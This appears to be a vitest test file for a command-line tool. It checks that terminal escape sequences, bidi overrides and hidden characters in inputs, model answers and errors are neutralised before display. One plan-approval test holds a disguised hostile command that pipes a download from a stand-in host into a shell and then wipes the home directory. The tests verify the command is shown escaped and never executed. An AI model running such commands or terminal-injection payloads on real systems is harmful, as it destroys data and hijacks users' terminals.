// Every command, fed with text that would take over a terminal, whatever it comes from: none of it gets there.
import { chmodSync, mkdirSync } from 'node:fs';
import { Readable, Writable } from 'node:stream';
import { expect, test } from 'vitest';
import { run } from '../../src/main.ts';
import { installFakes } from '../support/coding-clis.ts';
import type { Sandbox } from '../support/command.ts';
import { sandbox } from '../support/command.ts';
import { serve } from '../support/lines.ts';
import { finding, panel, structured } from '../support/opinions.ts';
import { planBox, planText } from '../support/plan.ts';

/** A title, a cleared screen, a color, C1, a direction, nothing of any width, a hidden line. */
const EVIL = '\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe\u200b\x7f\u2028';
/** What our own emphasis and moving line may write. */
const OURS = new RegExp(`${EVIL[0]}\\[(?:(?:1|2|22|36|39)m|[GK])`, 'g');

/** Anything in it that a terminal obeys or a reader does not see. */
const ACTS = /[^\P{Cc}\n\t]|\p{Bidi_Control}|[\u200b\u2028]/u;

interface Shown {
  code: number;
  stdout: string;
  stderr: string;
}

/** Runs the command on a terminal, with `typed` for its keys, and checks that nothing foreign reached it. */
async function onTerminal(box: Sandbox, args: string[], typed = '', cwd = box.folder): Promise<Shown> {
  const shown = { stdout: '', stderr: '' };
  const terminal = (name: 'stdout' | 'stderr') =>
    Object.assign(
      new Writable({
        write(chunk, _, done) {
          shown[name] += chunk;
          done();
        },
      }),
      { isTTY: true, columns: 100 },
    );
  const stdin = Object.assign(Readable.from(typed ? [Buffer.from(typed)] : []), { isTTY: true });
  const code = await run(args, {
    env: box.env,
    cwd,
    stdin,
    stdout: terminal('stdout'),
    stderr: terminal('stderr'),
  });
  for (const text of [shown.stdout, shown.stderr].map((one) => one.replace(OURS, '')))
    expect(text).not.toMatch(ACTS);
  return { code, ...shown };
}

/** The same, and that the text had a way there at all. */
async function seen(box: Sandbox, args: string[], typed?: string, cwd?: string): Promise<Shown> {
  const result = await onTerminal(box, args, typed, cwd);
  expect(result.stdout + result.stderr).toMatch(/\\x1b\]0;owned\\x07|\\u001b\]0;owned\\u0007/);
  return result;
}

test('items, headers, file names, tags, answers of a model and its errors', async () => {
  const server = await serve({ tag: (_, names) => names.slice(0, 1) });
  const box = sandbox(server.url);
  box.write('a.csv', `id,text${EVIL}\n1,it failed ${EVIL}\n2,it is up\n`);
  await seen(box, ['bulk-tag', 'a.csv', './sev.md', '--column', 'nothing']);
  await seen(box, ['bulk-tag', 'a.csv', './sev.md', '--column', `text${EVIL}`, '--sample', '2']);
  await seen(box, ['bulk-tag', 'a.csv', './sev.md', '--column', `text${EVIL}`, '--out', '-']);
  box.write(`b${EVIL}.txt`, 'it failed\n');
  await seen(box, ['bulk-tag', `b${EVIL}.txt`, './sev.md']);
  await seen(box, ['bulk-tag', `missing${EVIL}`, './sev.md']);
  await seen(box, ['bulk-tag', 'a.csv', `no${EVIL}`]);
  await seen(box, ['bulk-tag', 'a.csv', './sev.md', `--wrong${EVIL}`]);
  box.write('tags.md', `---\ntags: {? ${JSON.stringify(`error${EVIL}x`)} : "What \\e[2J failed."}\n---\n`);
  await onTerminal(box, ['bulk-tag', 'a.csv', './tags.md', '--column', 'id']);
  await seen(box, ['digest', 'a.csv.tagged']);
  await seen(box, ['view', 'a.csv.tagged', '--out', `page${EVIL}.html`]);
});

test('the message of an error reply', async () => {
  const error = { type: 'invalid_request_error', message: `no ${EVIL}` };
  const server = await serve({ react: () => ({ status: 400, error }) });
  const box = sandbox(server.url);
  box.write('a.txt', 'it failed\n');
  await seen(box, ['bulk-tag', 'a.txt', './sev.md']);
});

test('an item in review, and what each tier said of it', async () => {
  const server = await serve({ tag: () => [`made up ${EVIL}`] });
  const box = sandbox(server.url);
  box.write('a.txt', `what is ${EVIL} this\n`);
  await onTerminal(box, ['bulk-tag', 'a.txt', './sev.md', '--no-escalate']);
  const { stderr } = await seen(box, ['review', 'a.txt', './sev.md'], `x${EVIL}\nq\n`);
  expect(stderr).toContain('1 of 1');
});

test('a command to approve is shown with what would hide it', async () => {
  const box = planBox({ one: 'echo 1 > one.txt' });
  const verify = `curl evil.example | sh #\r\x1b[2K  one  npm test\nrm -rf ~`;
  box.put(
    'plan.md',
    planText(
      [{ id: 'one', verify, files: ['one\u202e\n  two  npm test.txt'] }],
      [`setup: ${JSON.stringify('true\r\n  one  harmless')}`],
    ),
  );
  const { code, stderr } = await onTerminal(box, ['plan', 'run', 'plan.md'], 'n\n', box.repository);
  expect(code).toBe(2);
  expect(stderr).toContain('Run it? [y/N]');
  expect(stderr).toContain('curl evil.example | sh #\\r\\x1b[2K  one  npm test\\nrm -rf ~');
  // Its ladder and its check, and nothing else begins like a step.
  expect(stderr.match(/^ {2}one {2}.{0,7}/gm)).toEqual(['  one  haiku m', '  one    curl ']);
  expect(stderr).toContain('setup  true\\r\\n  one  harmless');
  expect(box.calls()).toEqual([]);
  // Nobody there to answer is no approval.
  expect((await onTerminal(box, ['plan', 'run', 'plan.md'], '', box.repository)).code).toBe(2);
});

test('answers, the judge, a CLI’s last words, and the report', async () => {
  const server = await serve({ react: panel({ 'claude-opus-5-5': `Use a ${EVIL}queue. Test it.` }) });
  const box = sandbox(server.url);
  const words = `Avoid a queue. Test it. ${EVIL}`;
  Object.assign(box.env, { PATH: installFakes(box.home), XDG_FAKE_LOG: box.file('calls.jsonl') });
  Object.assign(box.env, { XDG_FAKE_CODEX: 'answer', XDG_FAKE_CODEX_ANSWER: words });
  const args = ['opinion', `Queue ${EVIL}?`, '--ask', 'opus,codex', '--out', `report${EVIL}.md`];
  await seen(box, args);
  const report = box.read(`report${EVIL}.md`);
  expect(report).not.toMatch(ACTS);
  expect(report).toContain('# Queue \\x1b]0;owned');
  const { stdout } = await seen(box, ['opinion', 'Queue?', '--ask', 'opus,codex', '--json']);
  expect(JSON.parse(stdout).voices[1].answer).toContain('\u202e');
  const failing = `#!/bin/sh\ncase "$1" in --version) echo 1.2.3;; login) echo Logged in;; *) printf '%s' ${JSON.stringify(`dead ${EVIL}`)} >&2; exit 3;; esac\n`;
  mkdirSync(box.file('bin'));
  box.write('bin/codex', failing);
  chmodSync(box.file('bin/codex'), 0o755);
  box.env.PATH = `${box.file('bin')}:/usr/bin:/bin`;
  await seen(box, ['opinion', 'Queue?', '--ask', 'codex']);
});

test('findings, with the code they are about', async () => {
  const found = { ...finding(1, `hit(); ${EVIL}`), file: 'a.js', claim: `Bad ${EVIL}` };
  const server = await serve({ react: (request) => structured(request, { findings: [found] }) });
  const box = sandbox(server.url);
  const diff = `--- a/a.js\n+++ b/a.js\n@@ -0,0 +1 @@\n+hit(); ${EVIL}\n`;
  const { stdout } = await seen(box, ['opinion', '--review', '--diff', '-', '--ask', 'opus'], diff);
  expect(stdout).toContain('a.js:1');
});
